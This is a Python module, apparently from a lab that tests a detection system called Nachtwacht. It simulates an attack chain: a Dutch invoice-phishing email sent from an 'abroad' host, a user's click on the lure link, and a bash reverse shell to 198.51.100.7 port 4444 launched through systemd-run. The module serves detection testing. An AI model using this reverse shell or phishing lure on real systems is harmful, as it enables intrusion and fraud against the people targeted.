"""Two attacks, as an attacker would make them: nothing in them knows of Nachtwacht."""

from __future__ import annotations

import json
import time

from nachtwacht import lab
from nachtwacht.model.failure import Failure

ABROAD = "198.51.100.7"
GATEWAY_ABROAD = "198.51.100.254"
LURE = "facturen-goudenaar.example"

_SEND = """
import json, smtplib, sys, email.message, email.utils
order = json.load(sys.stdin)
mail = email.message.EmailMessage()
mail["From"], mail["To"], mail["Subject"] = order["from"], order["to"], order["subject"]
mail["Date"], mail["Message-ID"] = email.utils.localtime().strftime("%a, %d %b %Y %H:%M:%S %z"), email.utils.make_msgid()
mail.set_content(order["text"])
mail.add_alternative(order["html"], subtype="html")
with smtplib.SMTP(order["server"], 25, timeout=20) as server:
    server.send_message(mail)
"""
# Waits for a mail with that subject in a mailbox.
_ARRIVED = """
import json, pathlib, sys, time
order = json.load(sys.stdin)
give_up = time.time() + order["seconds"]
box = pathlib.Path("/var/mail") / order["user"]
while time.time() < give_up:
    if box.is_file() and order["subject"] in box.read_text(errors="replace"):
        print("arrived")
        break
    time.sleep(0.1)
"""


def _on(host: str, argv: list[str], stdin: str = "") -> str:
    return lab.run(host, argv, stdin.encode()).stdout.decode(errors="replace")


def mail_with_link(user: str, domain: str) -> None:
    """Send a mail with a link from abroad, and wait until it lies in the user's mailbox."""
    subject = "Openstaande factuur 2026-1184"
    link = f"https://{LURE}/betalen?klant=1184"
    order = {
        "from": f"administratie@{LURE}",
        "to": f"{user}@{domain}",
        "subject": subject,
        "text": f"Geachte relatie,\n\nUw factuur staat nog open. U vindt hem hier: {link}\n\nDe administratie",
        "html": f'<p>Geachte relatie,</p><p>Uw factuur staat nog open. <a href="{link}">Bekijk de factuur</a></p>',
        "server": GATEWAY_ABROAD,
    }
    _on("abroad-1", ["python3", "-c", _SEND], json.dumps(order))
    wait = {"user": user, "subject": subject, "seconds": 30}
    if "arrived" not in _on("mail-01", ["python3", "-c", _ARRIVED], json.dumps(wait)):
        raise Failure(
            f"the mail to {user}@{domain} did not arrive within 30 s", mend="nw lab ssh mail-01 journalctl -u postfix@-"
        )


def visit_link(host: str) -> float:
    """The user opens the link: TLS to the host abroad. UTC time of the click."""
    clicked = time.time()
    _on(host, ["curl", "-sk", "--max-time", "5", "--resolve", f"{LURE}:443:{ABROAD}", f"https://{LURE}/betalen"])
    return clicked


def reverse_shell(host: str) -> float:
    """A shell of the workstation is handed to the host abroad. UTC time of the start; the shell runs on by itself."""
    begun = time.time()
    _on(host, ["systemd-run", "-q", "--collect", "bash", "-c", f"bash -i >& /dev/tcp/{ABROAD}/4444 0>&1"])
    return begun
